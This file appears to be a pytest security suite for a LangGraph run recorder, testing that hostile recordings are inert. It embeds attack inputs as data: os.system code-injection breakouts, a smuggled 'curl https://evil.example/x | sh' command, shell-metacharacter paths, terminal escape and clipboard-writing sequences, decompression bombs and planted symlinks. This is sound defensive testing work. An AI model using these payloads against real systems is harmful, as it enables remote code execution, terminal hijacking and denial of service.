"""A recording is untrusted: hostile text never runs, never drives a terminal or a shell, and
a crafted store cannot make a read build unbounded data (issue 13)."""

from __future__ import annotations

import ast
import re
import json
import os
import shlex
import stat
import subprocess
import sys
import zlib
from pathlib import Path
from typing import Annotated, Any, TypedDict

import pytest
import sqlalchemy as sa
from langchain_core.messages import AnyMessage
from langgraph.graph.message import add_messages

from graphtape.recorder import Recorder, open_store
from graphtape.recorder.errors import StoreError
from graphtape.tui.cli import main

ROOT = Path(__file__).resolve().parents[1]

BREAKOUTS = [
    'incident 42 """; __import__("os").system("touch {marker}"); """',
    "x'''; __import__('os').system('touch {marker}'); '''",
    "line\nimport os; os.system('touch {marker}')\n#",
    "\\\"\"\"\n__import__('os').system('touch {marker}')",
]


def _graph(keys: list[str]):
    from langgraph.graph import END, START, StateGraph

    State = TypedDict("State", {k: int for k in keys}, total=False)  # noqa: UP013 - keys that are not identifiers
    b = StateGraph(State)
    b.add_node("bump", lambda s: {keys[0]: s.get(keys[0], 0) + 1})
    b.add_edge(START, "bump")
    b.add_edge("bump", END)
    return b.compile()


def _bump() -> Any:
    """A one-node graph (n -> n + 1): what a hostile name or reference is recorded on."""
    from langgraph.graph import END, START, StateGraph

    class S(TypedDict):
        n: int

    b = StateGraph(S)
    b.add_node("bump", lambda s: {"n": s["n"] + 1})
    b.add_edge(START, "bump")
    b.add_edge("bump", END)
    return b.compile()


GRAPH_FILE = '''
from typing import TypedDict
from langgraph.graph import END, START, StateGraph

KEYS = {keys!r}
State = TypedDict("State", {{k: int for k in KEYS}}, total=False)
b = StateGraph(State)
b.add_node("bump", lambda s: {{KEYS[0]: s.get(KEYS[0], 0) + 1}})
b.add_edge(START, "bump")
b.add_edge("bump", END)
graph = b.compile()
'''


@pytest.mark.parametrize("breakout", BREAKOUTS)
def test_test_gen_holds_recorded_text_only_as_inert_text_and_literals(tmp_path, breakout, capsys):
    marker = tmp_path / "pwned"
    hostile = breakout.format(marker=marker)
    keys = ["n", f"k {hostile}"]
    (tmp_path / "agent.py").write_text(GRAPH_FILE.format(keys=keys))
    from graphtape.replay.loading import load_graph

    db = str(tmp_path / "runs.db")
    with Recorder(db) as rec:
        rec.attach(load_graph(f"{tmp_path / 'agent.py'}:graph"), name=hostile, tags=[hostile]).invoke({"n": 1})
        run_id = rec.last_run_id
    out_dir = tmp_path / "generated"
    assert main(["--db", db, "test-gen", run_id, "--graph", f"{tmp_path / 'agent.py'}:graph", "-o", str(out_dir), "--name", "hostile"]) == 0
    source = (out_dir / "test_hostile.py").read_text()
    # The module is what test-gen writes and nothing else: a docstring, imports, three
    # assignments and one test function; no recorded text outside string literals.
    tree = ast.parse(source)
    kinds = [type(node).__name__ for node in tree.body]
    assert kinds == ["Expr", "ImportFrom", "Import", "Assign", "Assign", "Assign", "FunctionDef"], kinds
    # The hostile text survives only as inert words in the docstring (and a comment): the code
    # itself (comments dropped, docstring removed) never holds it.
    assert "touch" in ast.get_docstring(tree)
    code = ast.unparse(ast.Module(body=tree.body[1:], type_ignores=[]))
    assert "touch" not in code and "system" not in code
    env = {k: v for k, v in os.environ.items() if k != "CI"}
    proc = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", str(out_dir)], cwd=tmp_path, capture_output=True, text=True, timeout=300, env=env)
    assert proc.returncode == 0 and "1 passed" in proc.stdout, proc.stdout[-2000:]
    assert not marker.exists()


def test_a_crafted_store_cannot_make_one_read_inflate_without_bound(tmp_path, monkeypatch):
    from langgraph.graph import END, START, StateGraph

    from graphtape.recorder.store import payloads, read_guard

    class S(TypedDict):
        n: int

    b = StateGraph(S)
    b.add_node("a", lambda s: {"n": s["n"] + 1})
    b.add_node("b", lambda s: {"n": s["n"] + 1})
    b.add_node("c", lambda s: {"n": s["n"] + 1})
    b.add_edge(START, "a")
    b.add_edge("a", "b")
    b.add_edge("b", "c")
    b.add_edge("c", END)
    db = tmp_path / "crafted.db"
    with Recorder(db, durability="sync") as rec:
        rec.attach(b.compile()).invoke({"n": 0})
        run_id = rec.last_run_id
    # Each payload alone is under the per-payload limit; together they are far over the read's.
    bomb = b"z" + zlib.compress(b" " * (6 * 1024 * 1024) + b"{}", 9)
    engine = sa.create_engine(f"sqlite:///{db}")
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE steps SET payload = :p, is_key = 0 WHERE run_id = :r AND step >= 0"), {"p": bomb, "r": run_id})
    engine.dispose()
    assert db.stat().st_size < 1024 * 1024  # the crafted store is small
    monkeypatch.setattr(read_guard, "MAX_READ_BYTES", 10 * 1024 * 1024)
    monkeypatch.setattr(payloads, "MAX_INFLATE", 8 * 1024 * 1024)
    store = open_store(db)
    try:
        with pytest.raises(StoreError, match="would inflate and build more than 10 MB"):
            store.state_at(run_id, 2)
    finally:
        store.close()


def _one_node_run(tmp_path, schema: type, inputs: dict) -> tuple[Any, str]:
    """A store holding one recorded run of a one-node graph (``n`` counted up): crafted next."""
    from langgraph.graph import END, START, StateGraph

    b = StateGraph(schema)
    b.add_node("a", lambda s: {"n": s["n"] + 1})
    b.add_edge(START, "a")
    b.add_edge("a", END)
    db = tmp_path / "crafted.db"
    with Recorder(db, durability="sync") as rec:
        rec.attach(b.compile()).invoke(inputs)
        return db, rec.last_run_id


AGENT_WITH_BIG = """
from typing import TypedDict
from langgraph.graph import END, START, StateGraph

class S(TypedDict):
    n: int
    big: list

b = StateGraph(S)
b.add_node("a", lambda s: {"n": s["n"] + 1})
b.add_edge(START, "a")
b.add_edge("a", END)
graph = b.compile()
"""


@pytest.mark.parametrize(
    "command",
    [["show", "RUN"], ["show", "RUN", "--json"], ["show", "RUN", "--step", "0", "--full"], ["export", "RUN", "-o", "out.json"], ["replay", "RUN", "--graph", "agent.py:graph"]],
)
def test_one_large_text_referenced_many_times_costs_its_size_each_time(tmp_path, monkeypatch, capsys, command):
    """A crafted store holds one 1 MB string once and refers to it 400 times in a state: shared
    when decoded, but printing or exporting it builds it 400 times. Each reference pays its text,
    so the read refuses in one line instead of building 400 MB (here with a 64 MB read budget)."""
    from graphtape.recorder.store import pack, read_guard, unpack
    from graphtape.tui.cli import main

    db, run_id, ref = _one_big_string_run(tmp_path)
    engine = sa.create_engine(f"sqlite:///{db}")
    with engine.begin() as conn:
        for seq, payload in conn.execute(sa.text("SELECT seq, payload FROM steps WHERE run_id = :r"), {"r": run_id}).fetchall():
            step = unpack(payload)
            if "big" in step.get("s", {}).get("v", {}):
                step["s"]["v"]["big"] = [{"$b": ref}] * 400
                conn.execute(sa.text("UPDATE steps SET payload = :p, is_key = 1 WHERE run_id = :r AND seq = :s"), {"p": pack(step), "r": run_id, "s": seq})
    engine.dispose()
    monkeypatch.setattr(read_guard, "MAX_READ_BYTES", 64 * 1024 * 1024)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "agent.py").write_text(AGENT_WITH_BIG)
    capsys.readouterr()
    code = main(["--db", str(db), *[run_id if a == "RUN" else a for a in command]])
    err = capsys.readouterr().err
    assert code == 2 and err.count("\n") == 1 and "would inflate and build more than 64 MB" in err, err
    assert not (tmp_path / "out.json").exists()


class _Big(TypedDict):
    n: int
    big: list


def _one_big_string_run(tmp_path: Path) -> tuple[Path, str, str]:
    """A one-node run whose state holds a 1 MB string: its store, its id and the string's blob."""
    db, run_id = _one_node_run(tmp_path, _Big, {"n": 0, "big": ["x" * (1024 * 1024)]})
    engine = sa.create_engine(f"sqlite:///{db}")
    with engine.connect() as conn:
        ref = _whole_string_blob(conn)
    engine.dispose()
    return db, run_id, ref


def _whole_string_blob(conn: Any) -> str:
    """The blob holding the recorded 1 MB string: its list of chunks (``string_chunks``), not a chunk."""
    from graphtape.recorder.store import unpack

    rows = conn.execute(sa.text("SELECT hash, zipped, data FROM blobs")).fetchall()
    (ref,) = [h for h, zipped, data in rows if type(unpack((b"z" if zipped else b"j") + bytes(data))) is dict]
    return ref


def _crafted_calls(db: Path, run_id: str, inputs: list[list[dict]]) -> None:
    """One tool call per item of ``inputs``, each holding that item as its recorded inputs (the
    first at step 0, the next at step 1, ...: steps the run need not have)."""
    engine = sa.create_engine(f"sqlite:///{db}")
    with engine.begin() as conn:
        for i, value in enumerate(inputs):
            conn.execute(
                sa.text("INSERT INTO calls (run_id, ns, step, call_id, kind, name, inputs, started_at, streamed) VALUES (:r, '', :s, :c, 'tool', 't', :i, :t, 0)"),
                {"r": run_id, "s": i, "c": f"c{i}", "i": json.dumps(value), "t": 1.0 + i},
            )
    engine.dispose()


def test_a_crafted_call_that_refers_to_one_large_text_many_times_is_refused_by_a_read_of_every_call(tmp_path, monkeypatch, capsys):
    """Each call of a run is decoded within a budget of its own (a long loop's prompts together
    are not one value), but one call whose inputs refer to a stored 1 MB string 400 times is
    still refused in one line, read alone or among the run's calls."""
    from graphtape.recorder.store import read_guard

    db, run_id, ref = _one_big_string_run(tmp_path)
    _crafted_calls(db, run_id, [[{"$b": ref}] * 400] + [[{"$b": ref}]] * 3)
    monkeypatch.setattr(read_guard, "MAX_READ_BYTES", 64 * 1024 * 1024)
    store = open_store(db)
    try:
        with pytest.raises(StoreError, match="would inflate and build more than 64 MB"):
            store.calls(run_id)
    finally:
        store.close()
    capsys.readouterr()
    assert main(["--db", str(db), "show", run_id, "--step", "0"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "would inflate and build more than 64 MB" in err, err


def test_what_a_read_of_every_call_inflates_from_the_store_is_bounded_in_all(tmp_path, monkeypatch):
    """Each call is decoded within a budget of its own, but the blobs a read of a run's calls
    inflates are paid by the read: 40 calls, each holding its own 1 MB string stored in a few
    compressed bytes, are refused together at a 16 MB read budget (each alone reads fine)."""
    from graphtape.recorder.codec import blob_hash
    from graphtape.recorder.store import read_guard

    class S(TypedDict):
        n: int

    db, run_id = _one_node_run(tmp_path, S, {"n": 0})
    texts = [json.dumps(f"{i:>4}" + " " * (1024 * 1024)).encode() for i in range(40)]
    engine = sa.create_engine(f"sqlite:///{db}")
    with engine.begin() as conn:
        for text in texts:
            conn.execute(sa.text("INSERT INTO blobs (hash, zipped, data) VALUES (:h, 1, :d)"), {"h": blob_hash(text), "d": zlib.compress(text, 9)})
    engine.dispose()
    assert db.stat().st_size < 1024 * 1024  # the crafted store is small
    _crafted_calls(db, run_id, [[{"$b": blob_hash(text)}] for text in texts])
    monkeypatch.setattr(read_guard, "MAX_READ_BYTES", 16 * 1024 * 1024)
    store = open_store(db)
    try:
        assert [len(c.inputs[0]) for c in store.calls(run_id, step=39)] == [4 + 1024 * 1024]  # one call alone reads fine
    finally:
        store.close()
    store = open_store(db)
    try:
        with pytest.raises(StoreError, match="would inflate and build more than 16 MB"):
            store.calls(run_id)
    finally:
        store.close()


def test_a_small_payload_that_parses_to_gigabytes_is_refused_before_it_is_parsed(tmp_path, capsys):
    """8 kB of compressed ``[{},{},...]`` inflate to 8 MB, within every byte limit, and would parse
    to ~200 MB of empty dicts each (a 4 MB store of them: many GB): the read counts what parsing
    builds, so ``show --step 0`` refuses in one line, at the default limits."""
    from graphtape.tui.cli import main

    class S(TypedDict):
        n: int

    db, run_id = _one_node_run(tmp_path, S, {"n": 0})
    unit = b"{},"
    bomb = b"z" + zlib.compress(b"[" + unit * (8 * 1024 * 1024 // len(unit)) + b"{}]", 9)
    assert len(bomb) < 16 * 1024
    engine = sa.create_engine(f"sqlite:///{db}")
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE steps SET payload = :p, is_key = 1 WHERE run_id = :r"), {"p": bomb, "r": run_id})
    engine.dispose()
    capsys.readouterr()
    code = main(["--db", str(db), "show", run_id, "--step", "0"])
    err = capsys.readouterr().err
    assert code == 2 and err.count("\n") == 1 and "would inflate and build more than 512 MB" in err
    store = open_store(db)
    try:
        with pytest.raises(StoreError, match="would inflate and build more than 512 MB"):
            store.state_at(run_id, 0)
    finally:
        store.close()


def test_a_fixtures_graph_field_is_quoted_in_the_hint_it_prints(tmp_path, capsys):
    fixture_path = ROOT / "fixtures" / "runs" / "demo-react.json"
    fixture = json.loads(fixture_path.read_text())
    fixture["graph"] = "agent.py:graph; curl https://evil.example/x | sh #"
    hostile = tmp_path / "hostile.json"
    hostile.write_text(json.dumps(fixture))
    assert main(["--db", str(tmp_path / "runs.db"), "import", str(hostile)]) == 0
    out = capsys.readouterr().out
    hint = next(line for line in out.splitlines() if line.startswith("open it:"))
    command = hint.split("replay it: ", 1)[1]
    argv = shlex.split(command)
    # Not a graph reference: not offered at all (the hint names a placeholder and says why).
    assert argv[:2] == ["graphtape", "replay"] and argv[3:] == ["--graph", "module:attr"]
    assert "is not a module:attr or path/to/file.py:attr reference" in out and "curl" not in hint
    # A reference with shell characters in a path is offered quoted: pasting runs graphtape only.
    for ref in ("agents/it's $(id).py:graph", "-rf.py:graph"):
        fixture["graph"] = ref
        hostile.write_text(json.dumps(fixture))
        assert main(["--db", str(tmp_path / "runs.db"), "import", str(hostile)]) == 0
        hint = next(line for line in capsys.readouterr().out.splitlines() if line.startswith("open it:"))
        argv = shlex.split(hint.split("replay it: ", 1)[1])
        assert argv[3:] == (["--graph", ref] if ref[0] != "-" else ["--graph", "module:attr"])


def test_import_from_a_device_or_a_pipe_is_refused_at_once(tmp_path, capsys):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    for source in ("/dev/zero", str(fifo)):
        code = main(["--db", str(tmp_path / "runs.db"), "import", source])
        err = capsys.readouterr().err
        assert code == 2 and "not a regular file" in err and err.count("\n") == 1


@pytest.mark.parametrize("argv", [["show", "last", "--step", "9" * 30], ["show", "last~" + "9" * 30], ["runs", "--limit", "9" * 30], ["replay", "last", "--from", "9" * 30]])
def test_huge_numbers_are_one_line_errors(tmp_path, capsys, argv):
    db = tmp_path / "runs.db"
    open_store(db, create=True).close()
    code = main(["--db", str(db), *argv])
    err = capsys.readouterr().err
    assert code == 2 and err.count("\n") <= 5 and "OverflowError" not in err and "Traceback" not in err


def test_hostile_fixtures_run_nothing_when_imported_and_opened(tmp_path, capsys):
    """A fixture naming code everywhere a type or a reference could go: nothing runs."""
    marker = tmp_path / "ran"
    fixture = json.loads((ROOT / "fixtures" / "runs" / "demo-react.json").read_text())
    payload = {"$t": "obj", "type": "os.system", "v": {"cmd": f"touch {marker}"}}
    fixture["graph"] = f"{tmp_path / 'evil.py'}:graph"
    (tmp_path / "evil.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    fixture["inputs"] = {"x": payload, "y": {"$t": "lc.msg", "cls": "subprocess.Popen", "v": {"args": ["touch", str(marker)]}}}
    fixture["name"] = "evil\x1b]52;c;ZWNobyBwd25lZA==\x07"
    hostile = tmp_path / "hostile.json"
    hostile.write_text(json.dumps(fixture))
    db = str(tmp_path / "runs.db")
    assert main(["--db", db, "import", str(hostile)]) in (0, 2)
    for argv in (["runs"], ["show", "last"], ["show", "last", "--json"]):
        main(["--db", db, *argv])
    out = capsys.readouterr()
    assert "\x1b" not in out.out + out.err and "\x07" not in out.out
    assert not marker.exists()


async def test_the_tui_shows_recorded_escape_sequences_as_text(tmp_path):
    from graphtape.tui.app import build_app
    from graphtape.tui.screens.run import RunScreen
    from graphtape.tui.widgets.runs_table import RunsTable

    db = str(tmp_path / "runs.db")
    hostile = "evil\x1b]2;PWNED\x07\x1b]52;c;ZWNobyBwd25lZA==\x07run"
    with Recorder(db) as rec:
        rec.attach(_bump(), name=hostile, tags=["t\x1b[31m"]).invoke({"n": 1})
        run_id = rec.last_run_id
    app = build_app(db)
    async with app.run_test(size=(120, 30)) as pilot:
        for _ in range(60):
            await pilot.pause(0.05)
            if getattr(app.screen, "runs", None):
                break
        table = app.screen.query_one(RunsTable)
        lines = [table.render_line(y).text for y in range(3)]
        assert any("evil?]2;PWNED?" in line for line in lines) and not any("\x1b" in line or "\x07" in line for line in lines)
        await pilot.press("enter")
        for _ in range(60):
            await pilot.pause(0.05)
            if isinstance(app.screen, RunScreen) and app.screen.payload is not None:
                break
        header = str(app.screen.query_one("#run-header").render())
        assert app.screen.run_id == run_id and "evil?" in header and "\x1b" not in header


def test_an_export_of_a_crafted_store_is_bounded_as_one_read(tmp_path, monkeypatch, capsys):
    """Each step's payload is within the limit of one read, all of them together are not: the
    export (which reads every step) stops at the budget instead of building them all."""
    from langgraph.graph import END, START, StateGraph

    from graphtape.recorder.store import read_guard as store_module
    from graphtape.recorder.store import pack, unpack
    from graphtape.tui.cli import main

    class S(TypedDict):
        n: int

    b = StateGraph(S)
    for name in "abcdef":
        b.add_node(name, lambda s: {"n": s["n"] + 1})
    b.add_edge(START, "a")
    for x, y in zip("abcde", "bcdef"):
        b.add_edge(x, y)
    b.add_edge("f", END)
    db = tmp_path / "crafted.db"
    with Recorder(db, durability="sync") as rec:
        rec.attach(b.compile()).invoke({"n": 0})
        run_id = rec.last_run_id
    engine = sa.create_engine(f"sqlite:///{db}")
    with engine.begin() as conn:
        for seq, payload in conn.execute(sa.text("SELECT seq, payload FROM steps WHERE run_id = :r"), {"r": run_id}).fetchall():
            padded = {**unpack(payload), "pad": [{}] * 100_000}  # ~23 MB of parse each, in a 1 kB payload
            conn.execute(sa.text("UPDATE steps SET payload = :p WHERE run_id = :r AND seq = :s"), {"p": pack(padded), "r": run_id, "s": seq})
    engine.dispose()
    monkeypatch.setattr(store_module, "MAX_READ_BYTES", 64 * 1024 * 1024)
    store = open_store(db)
    try:
        assert store.state_at(run_id, 5)["n"] == 5  # one step alone reads fine
    finally:
        store.close()
    capsys.readouterr()
    assert main(["--db", str(db), "export", run_id, "-o", str(tmp_path / "fx.json")]) == 2
    err = capsys.readouterr().err
    assert "would inflate and build more than 64 MB" in err and err.count("\n") == 1
    assert not (tmp_path / "fx.json").exists()


HOSTILE = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b31m\u202e\u200fad\u200bmin\u2028\ufeff[/][link=http://evil.example]L[/link][/bold]"
_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\u200e\u200f\u061c\u2060-\u2064\ufeff\u2028\u2029]")


class HostileState(TypedDict, total=False):
    messages: Annotated[list[AnyMessage], add_messages]
    notes: Any


def _hostile_run(db: str) -> str:
    from conftest import load_agent
    from langchain_core.messages import AIMessage, HumanMessage
    from langchain_core.tools import tool
    from langgraph.graph import END, START, StateGraph
    from langgraph.prebuilt import ToolNode

    scripted = load_agent("scripted_model").ScriptedChatModel

    @tool
    def look(q: str) -> str:
        """Look something up."""
        return f"found {HOSTILE}"

    @tool
    def boom(q: str) -> str:
        """Fail."""
        raise ValueError(f"bad {HOSTILE}")

    script = [
        AIMessage(content=f"ai {HOSTILE}", tool_calls=[{"name": "look", "args": {"q": HOSTILE}, "id": "c1"}, {"name": "boom", "args": {"q": HOSTILE}, "id": "c2"}]),
        AIMessage(content=f"done {HOSTILE}"),
    ]
    model = scripted(script=lambda m: script[sum(isinstance(x, AIMessage) for x in m)], model_name="m").bind_tools([look, boom])
    prep = "prep" + HOSTILE.replace(":", "")  # LangGraph keeps ":" for namespaces
    b = StateGraph(HostileState)
    b.add_node(prep, lambda s: {"notes": {f"key {HOSTILE}": f"value {HOSTILE}", "items": [HOSTILE] * 3}})
    b.add_node("agent", lambda s: {"messages": [model.invoke(s["messages"])]})
    b.add_node("tools", ToolNode([look, boom], handle_tool_errors=True))
    b.add_edge(START, prep)
    b.add_edge(prep, "agent")
    b.add_conditional_edges("agent", lambda s: "tools" if s["messages"][-1].tool_calls else END, ["tools", END])
    b.add_edge("tools", "agent")
    with Recorder(db) as rec:
        rec.attach(b.compile(), name=f"run {HOSTILE}", tags=[f"tag {HOSTILE}"], graph_ref=f"agent.py:graph{HOSTILE}").invoke({"messages": [HumanMessage(f"hi {HOSTILE}")]})
        return rec.last_run_id


async def test_recorded_escapes_and_markup_reach_no_screen_of_the_tui(tmp_path):
    """Every screen a run's text reaches (runs, each step's six tabs, the value viewer, run info,
    the watch picker, the replay prompt, toasts) shows escape sequences as "?" and markup as
    text: nothing moves the cursor, sets the clipboard, makes a link or crashes the app."""
    from graphtape.tui.app import build_app
    from graphtape.tui.screens.run import RunScreen

    db = str(tmp_path / "hostile.db")
    _hostile_run(db)
    problems: list[str] = []
    app = build_app(db)

    def check(where: str) -> None:
        strips = app.screen._compositor.render_strips()
        text = "\n".join("".join(seg.text for seg in strip) for strip in strips)
        if _UNSAFE.search(text):
            problems.append(f"{where}: {sorted(set(_UNSAFE.findall(text)))}")
        if any(seg.style is not None and seg.style.link for strip in strips for seg in strip):
            problems.append(f"{where}: a link")

    async with app.run_test(size=(140, 40)) as pilot:
        for _ in range(60):
            await pilot.pause(0.05)
            if getattr(app.screen, "runs", None):
                break
        check("runs")
        assert "[/]" in "\n".join("".join(s.text for s in strip) for strip in app.screen._compositor.render_strips())  # shown as text
        await pilot.press("enter")
        for _ in range(60):
            await pilot.pause(0.05)
            if isinstance(app.screen, RunScreen) and app.screen.payload is not None:
                break
        run_screen = app.screen
        for step in range(len(run_screen.steps)):
            for tab in "123456":
                await pilot.press(tab)
                check(f"step {step} tab {tab}")
            if step == 1:  # the prepared notes are in the state from here on
                await pilot.press("1", "tab", "down", "down", "enter", "v")
                await pilot.pause(0.1)
                check(f"step {step} value")
                await pilot.press("escape")
            await pilot.press("right")
            await pilot.pause(0.1)
        for key, where in (("i", "run info"), ("w", "watch picker"), ("r", "replay prompt")):
            await pilot.press(key)
            await pilot.pause(0.2)
            check(where)
            await pilot.press("escape")
            await pilot.pause(0.05)
        app.notify(f"toast {HOSTILE}", title=f"title {HOSTILE}")  # as the screens quote keys and errors
        await pilot.pause(0.2)
        check("toast")
        assert app.screen is run_screen and app.return_code is None  # still running: nothing crashed
    assert problems == []


@pytest.mark.parametrize("target", ["dangling", "existing"])
def test_a_link_planted_where_graphtape_writes_is_replaced_never_followed(tmp_path, capsys, target):
    """test-gen's test file, an export's fixture and the TUI's saved state go where they are
    told: a symlink there (to a file that does not exist yet, or to one that does) is replaced,
    and the file it points at is neither made nor written."""
    from graphtape.recorder.private_files import write_private
    from graphtape.tui.demo import record_demo

    victim = tmp_path / "victim.txt"
    if target == "existing":
        victim.write_text("precious")
    db = str(tmp_path / "demo.db")
    record_demo(db, "happy")
    out = tmp_path / "gen"
    out.mkdir()
    agent = ROOT / "fixtures" / "agents" / "reason_act.py"
    assert main(["--db", db, "test-gen", "last", "--graph", f"{agent}:graph_happy", "-o", str(out), "--name", "h"]) == 0
    for made in out.iterdir():  # plant a link where each file goes, then write them again
        made.unlink()
        made.symlink_to(victim)
    assert main(["--db", db, "test-gen", "last", "--graph", f"{agent}:graph_happy", "-o", str(out), "--name", "h", "--force"]) == 0
    fixture = tmp_path / "fx.json"
    fixture.symlink_to(victim)
    assert main(["--db", db, "export", "last", "-o", str(fixture), "--force"]) == 0
    saved = tmp_path / "state.json"
    saved.symlink_to(victim)
    write_private(saved, b"{}", overwrite=True)
    for path in [*out.iterdir(), fixture, saved]:
        assert not path.is_symlink() and path.is_file()
    assert (victim.read_text() == "precious") if target == "existing" else not victim.exists()
    capsys.readouterr()


def test_saved_states_and_exported_fixtures_are_private_even_when_they_replace_a_public_file(tmp_path, capsys):
    from graphtape.recorder.private_files import write_private
    from graphtape.tui.demo import record_demo

    old = os.umask(0o022)
    try:
        saved = tmp_path / "state.json"
        saved.write_text("{}")
        assert stat.S_IMODE(saved.stat().st_mode) == 0o644
        write_private(saved, b'{"n": 1}', overwrite=True)
        assert stat.S_IMODE(saved.stat().st_mode) == 0o600 and saved.read_bytes() == b'{"n": 1}'
        write_private(tmp_path / "new" / "state.json", b"{}")
        assert stat.S_IMODE((tmp_path / "new" / "state.json").stat().st_mode) == 0o600

        db = str(tmp_path / "demo.db")
        record_demo(db, "happy")
        fixture = tmp_path / "fx.json"
        fixture.write_text("{}")
        assert main(["--db", db, "export", "last", "-o", str(fixture), "--force"]) == 0
        assert stat.S_IMODE(fixture.stat().st_mode) == 0o600
        agent = ROOT / "fixtures" / "agents" / "reason_act.py"
        assert main(["--db", db, "test-gen", "last", "--graph", f"{agent}:graph_happy", "-o", str(tmp_path / "gen")]) == 0
        assert {stat.S_IMODE(f.stat().st_mode) for f in (tmp_path / "gen").glob("*.json")} == {0o600}
    finally:
        os.umask(old)
    capsys.readouterr()


def _in_a_terminal(argv: list[str], cwd: Path, answer: bytes, timeout: float = 120) -> tuple[int, str]:
    """Run ``argv`` with a pseudo-terminal for stdin, stdout and stderr; type ``answer`` once it asks."""
    import pty
    import select
    import time

    leader, follower = pty.openpty()
    env = {k: v for k, v in os.environ.items() if k not in ("GRAPHTAPE_DB", "PYTHONPATH")}
    proc = subprocess.Popen(argv, cwd=cwd, stdin=follower, stdout=follower, stderr=follower, env=env, close_fds=True)
    os.close(follower)
    seen = b""
    answered = False
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([leader], [], [], 0.2)
            if ready:
                try:
                    chunk = os.read(leader, 4096)
                except OSError:  # the process closed its side
                    break
                if not chunk:
                    break
                seen += chunk
            if not answered and seen.rstrip().endswith(b"[y/N]"):  # the question itself, last on screen (a forged one is followed by more)
                os.write(leader, answer)
                answered = True
            if proc.poll() is not None and not ready:
                break
        # What it wrote between the last look and its exit is still in the terminal: read it all.
        while select.select([leader], [], [], 0.2)[0]:
            try:
                chunk = os.read(leader, 4096)
            except OSError:
                break
            if not chunk:
                break
            seen += chunk
        return proc.wait(timeout=30), seen.decode("utf-8", "replace")
    finally:
        if proc.poll() is None:
            proc.kill()
        os.close(leader)


NOTES = '''
open({marker!r}, "w").close()  # what a planted module does when it is imported
from typing import TypedDict
from langgraph.graph import END, START, StateGraph

class S(TypedDict):
    n: int

b = StateGraph(S)
b.add_node("bump", lambda s: {{"n": s["n"] + 1}})
b.add_edge(START, "bump")
b.add_edge("bump", END)
graph = b.compile()
'''


@pytest.mark.parametrize("answer", [b"\n", b"n\n", b"y\n"])
def test_a_store_shipped_beside_a_module_runs_it_only_when_the_user_agrees_at_the_prompt(tmp_path, answer):
    """A store whose run names ``notes:graph``, in a folder holding a ``notes.py``: ``graphtape
    replay last`` on a terminal names the file that reference would execute and loads it only
    on "y"; Enter or "n" refuse in one line, and nothing was imported."""
    from langgraph.graph import END, START, StateGraph

    class S(TypedDict):
        n: int

    marker = tmp_path / "pwned"
    (tmp_path / "notes.py").write_text(NOTES.format(marker=str(marker)))
    b = StateGraph(S)
    b.add_node("bump", lambda s: {"n": s["n"] + 1})
    b.add_edge(START, "bump")
    b.add_edge("bump", END)
    with Recorder(tmp_path / "graphtape.db") as rec:
        rec.attach(b.compile(), graph_ref="notes:graph").invoke({"n": 1})
    code, shown = _in_a_terminal([str(Path(sys.executable).with_name("graphtape")), "replay", "last"], tmp_path, answer)
    assert f"names its graph as notes:graph (the file {tmp_path / 'notes.py'})" in shown.replace("\r\n", " ").replace("\n", " ")
    if answer == b"y\n":
        assert marker.exists() and code == 0, shown
        assert "?[" not in shown, shown  # rich's progress bar reaches the terminal as drawing, not as "?[2K" text
    else:
        assert not marker.exists() and code == 2 and "not loading the graph recorded with run" in shown, shown


def test_the_file_a_recorded_graph_reference_names_is_the_one_import_would_run(tmp_path, monkeypatch):
    """A folder holding ``notes.py`` and a package ``notes/``: import runs the package, so the
    prompt must name its ``__init__.py`` (it named the harmless ``notes.py``); an extension
    module beside a ``.py`` is what import would load, so it is the one named. Nothing runs."""
    from graphtape.replay.loading import source_of

    marker = tmp_path / "pwned"
    (tmp_path / "notes.py").write_text("x = 1\n")
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "__init__.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    (tmp_path / "tool.py").write_text("x = 1\n")
    (tmp_path / "tool.abi3.so").write_bytes(b"not really a library")
    (tmp_path / "plain.py").write_text("x = 1\n")
    monkeypatch.chdir(tmp_path)
    assert source_of("notes:graph") == (tmp_path / "notes" / "__init__.py").resolve()
    assert source_of("tool:graph") == (tmp_path / "tool.abi3.so").resolve()
    assert source_of("plain:graph") == (tmp_path / "plain.py").resolve()
    assert source_of("absent_module_xyz:graph") is None
    assert not marker.exists()


def test_newlines_in_recorded_names_cannot_forge_lines_of_output(tmp_path, capsys):
    """A run name or graph reference holding newlines: ``show``'s header stays one line and an
    error quoting the reference stays one line (a forged "run is safe" line was printable)."""
    from graphtape.tui.cli import main

    db = str(tmp_path / "g.db")
    with Recorder(db) as rec:
        rec.attach(_bump(), name="nightly\nffffffffffffffff  prod  ok", graph_ref="agent.py:graph\nrun is safe: loaded from your project").invoke({"n": 1})
    assert main(["--db", db, "show", "last"]) == 0
    first = capsys.readouterr().out.splitlines()[0]
    assert first.startswith("run ") and "nightly" in first and "ffffffffffffffff  prod  ok" in first
    assert main(["--db", db, "replay", "last"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "not loading the graph" in err and "run is safe" in err, err


def test_a_fixture_written_to_a_terminal_shows_control_characters_as_text(tmp_path):
    """``export -o -`` on a terminal: JSON escapes C0 controls but not C1 (U+009B is a CSI) or bidi overrides."""
    with Recorder(tmp_path / "graphtape.db") as rec:
        rec.attach(_bump(), name="evil\x9b31m\u202erun").invoke({"n": 1})
    code, shown = _in_a_terminal([str(Path(sys.executable).with_name("graphtape")), "export", "last", "-o", "-"], tmp_path, b"")
    assert code == 0 and '"graphtape_fixture"' in shown and "evil?31m?run" in shown
    assert "\x9b" not in shown and "\u202e" not in shown
    piped = subprocess.run([str(Path(sys.executable).with_name("graphtape")), "export", "last", "-o", "-"], cwd=tmp_path, capture_output=True, timeout=120)
    assert json.loads(piped.stdout)["name"] == "evil\x9b31m\u202erun"  # a pipe gets the fixture as it is


def test_the_load_question_names_the_package_files_an_import_runs_and_stays_one_line(tmp_path):
